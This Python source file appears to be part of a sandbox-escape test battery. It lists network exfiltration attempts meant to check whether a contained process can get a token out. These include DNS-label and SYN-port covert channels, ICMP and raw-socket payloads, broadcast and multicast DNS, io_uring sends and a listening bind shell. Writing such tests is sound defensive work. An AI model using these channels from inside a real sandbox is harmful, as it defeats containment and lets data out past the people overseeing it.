"""Group A: the network. Loopback, and a second network namespace that only the environment can reach."""

import ctypes
import struct
import threading

from bioguard.evidence.escape_battery.context import Context, View
from bioguard.evidence.escape_battery.model import attempt
from bioguard.evidence.escape_battery.raw import AF, SOCK, in4, in6
from bioguard.evidence.escape_battery.ring import ring_send_tcp
from bioguard.evidence.escape_battery.veth import HERE

GROUP = "A"
LOCAL = "127.0.0.1"
TCP, UDP, ICMP, UDPLITE, MPTCP = 6, 17, 1, 136, 262
SOL_SOCKET, SO_BROADCAST, MSG_FASTOPEN = 1, 6, 0x20000000
IPPROTO_IP, IP_MULTICAST_IF = 0, 32
BROADCAST, MDNS = "198.51.100.255", "224.0.0.251"


def seen(view: View) -> bool:
    return view.seen()


def dns_query(label: bytes) -> bytes:
    """A standard query for label.example."""
    name = bytes((len(label),)) + label + b"\7example\0"
    return struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)


@attempt("TCP connect to 127.0.0.1 and send", check=seen)
def tcp4_lo(c: Context) -> None:
    c.stream(in4(LOCAL, c.environment.ports["tcp4"]))


@attempt("TCP connect to ::1 and send", check=seen)
def tcp6_lo(c: Context) -> None:
    c.stream(in6(1, c.environment.ports["tcp6"]), AF.INET6)


@attempt("TCP to another host", check=seen, observer=True)
def tcp4_other_host(c: Context) -> None:
    c.stream(in4(c.environment.other_host, c.environment.ports["far_tcp"]))


@attempt(
    "TCP SYN to a port that encodes data, no reply needed",
    check=lambda v: v.environment.heard_syn(v.token),
    observer=True,
)
def tcp_syn_port(c: Context) -> None:
    fd = c.socket(AF.INET, SOCK.STREAM | SOCK.NONBLOCK)
    address = in4(c.environment.other_host, c.environment.port_of_token(c.token))
    try:
        c.sys("connect", fd, address, len(address))
    except BlockingIOError:
        return
    except OSError as error:
        if error.errno != 115:  # EINPROGRESS: the SYN is out
            raise


@attempt("UDP to loopback", check=seen)
def udp4_lo(c: Context) -> None:
    c.datagram(in4(LOCAL, c.environment.ports["udp4"]))


@attempt("UDP to ::1", check=seen)
def udp6_lo(c: Context) -> None:
    c.datagram(in6(1, c.environment.ports["udp6"]), AF.INET6)


@attempt("UDP to port 53 of another host", check=seen, observer=True)
def udp4_other_host(c: Context) -> None:
    c.datagram(in4(c.environment.other_host, 53))


@attempt("libc resolver: the token as a DNS label", check=seen, observer=True)
def dns_getaddrinfo(c: Context) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    result = ctypes.c_void_p()
    code = libc.res_query if hasattr(libc, "res_query") else None
    answer = ctypes.create_string_buffer(512)
    name = c.token + b".example"
    if code is not None:
        code(name, 1, 1, answer, 512)
    else:
        libc.getaddrinfo(name, None, None, ctypes.byref(result))


@attempt("DNS query made by hand", check=seen, observer=True)
def dns_raw_udp(c: Context) -> None:
    c.datagram(in4(c.environment.other_host, 53), payload=dns_query(c.token))


@attempt("DNS query made by hand to the local stub resolver", check=seen)
def dns_stub(c: Context) -> None:
    c.datagram(in4("127.0.0.53", c.environment.ports["stub"]), payload=dns_query(c.token))


@attempt("sendto with MSG_FASTOPEN: connects without connect", check=seen)
def tcp_fastopen(c: Context) -> None:
    fd = c.socket(AF.INET, SOCK.STREAM)
    address = in4(LOCAL, c.environment.ports["tcp4"])
    c.sys("sendto", fd, c.token, len(c.token), MSG_FASTOPEN, address, len(address))


@attempt("MPTCP to a plain TCP server", check=seen)
def mptcp(c: Context) -> None:
    c.stream(in4(LOCAL, c.environment.ports["tcp4"]), protocol=MPTCP)


@attempt("UDP-Lite to another host", check=seen, observer=True)
def udplite(c: Context) -> None:
    c.datagram(in4(c.environment.other_host, 9999), protocol=UDPLITE)


@attempt("SCTP to another host", check=seen, observer=True)
def sctp(c: Context) -> None:
    c.stream(in4(c.environment.other_host, 9999), protocol=132)


@attempt("DCCP to another host", check=seen, observer=True)
def dccp(c: Context) -> None:
    address = in4(c.environment.other_host, 9999)
    fd = c.socket(AF.INET, 6, 33)
    c.sys("connect", fd, address, len(address))


@attempt("ping socket with a payload", check=seen, observer=True)
def icmp_dgram(c: Context) -> None:
    payload = struct.pack(">BBHHH", 8, 0, 0, 0, 1) + c.token
    c.datagram(in4(c.environment.other_host, 0), payload=payload, protocol=ICMP)


@attempt("raw ICMP", check=seen, observer=True)
def icmp_raw(c: Context) -> None:
    fd = c.socket(AF.INET, SOCK.RAW, ICMP)
    address, payload = in4(c.environment.other_host, 0), struct.pack(">BBHHH", 8, 0, 0, 0, 1) + c.token
    c.sys("sendto", fd, payload, len(payload), 0, address, len(address))


@attempt("raw IPv6 with any next header", check=seen)
def raw6(c: Context) -> None:
    fd = c.socket(AF.INET6, SOCK.RAW, 253)
    address = in6(1, 0)
    c.sys("sendto", fd, c.token, len(c.token), 0, address, len(address))


@attempt("frame by AF_PACKET", check=seen)
def packet_raw(c: Context) -> None:
    fd = c.socket(AF.PACKET, SOCK.RAW, 0x0300)
    address = struct.pack("<H", AF.PACKET) + struct.pack(">H", 0x88B5) + struct.pack("<iHBB8s", 1, 0, 0, 6, bytes(8))
    frame = bytes(12) + b"\x88\xb5" + c.token
    c.sys("sendto", fd, frame, len(frame), 0, address, len(address))


@attempt("subnet broadcast", check=seen, observer=True)
def broadcast(c: Context) -> None:
    fd = c.socket(AF.INET, SOCK.DGRAM)
    c.sys("setsockopt", fd, SOL_SOCKET, SO_BROADCAST, struct.pack("<i", 1), 4)
    address = in4(BROADCAST, 9)
    c.sys("sendto", fd, c.token, len(c.token), 0, address, len(address))


@attempt("multicast DNS", check=seen, observer=True)
def mdns_multicast(c: Context) -> None:
    fd = c.socket(AF.INET, SOCK.DGRAM)
    c.sys("setsockopt", fd, IPPROTO_IP, IP_MULTICAST_IF, in4(HERE, 0)[4:8], 4)
    address, query = in4(MDNS, 5353), dns_query(c.token)
    c.sys("sendto", fd, query, len(query), 0, address, len(address))


@attempt("sendmmsg to another host", check=seen, observer=True)
def udp_sendmmsg(c: Context) -> None:
    fd = c.socket(AF.INET, SOCK.DGRAM)
    address = ctypes.create_string_buffer(in4(c.environment.other_host, 53), 16)
    data = ctypes.create_string_buffer(c.token, len(c.token))
    vector = struct.pack("<QQ", ctypes.addressof(data), len(c.token))
    vectors = ctypes.create_string_buffer(vector, len(vector))
    header = struct.pack(
        "<QIIQQQQiIIxxxx", ctypes.addressof(address), 16, 0, ctypes.addressof(vectors), 1, 0, 0, 0, 0, 0
    )
    c.sys("sendmmsg", fd, header, 1, 0)


@attempt("connected UDP socket and plain write", check=seen, observer=True)
def udp_connect_write(c: Context) -> None:
    fd = c.socket(AF.INET, SOCK.DGRAM)
    address = in4(c.environment.other_host, 53)
    c.sys("connect", fd, address, len(address))
    c.sys("write", fd, c.token, len(c.token))


@attempt(
    "bind shell: listen, and the outside connects in",
    check=lambda v: v.environment.fetch_bind_shell(v.token),
    lingers=True,
)
def tcp_bind_listen(c: Context) -> None:
    fd = c.socket(AF.INET, SOCK.STREAM)
    address = in4(LOCAL, c.environment.port_of_token(c.token))
    c.sys("bind", fd, address, len(address))
    c.sys("listen", fd, 1)
    peer = c.sys("accept4", fd, None, None, 0)
    c.sys("sendto", peer, c.token, len(c.token), 0, None, 0)


@attempt("socket, connect and send as io_uring operations", check=seen)
def io_uring_tcp(c: Context) -> None:
    ring_send_tcp(c, in4(LOCAL, c.environment.ports["tcp4"]))


@attempt("network from a new thread", check=seen)
def thread_spawn(c: Context) -> None:
    c.trace.last_call = c.environment.number_of("clone3")
    thread = threading.Thread(target=c.datagram, args=(in4(LOCAL, c.environment.ports["udp4"]),))
    thread.start()
    thread.join()
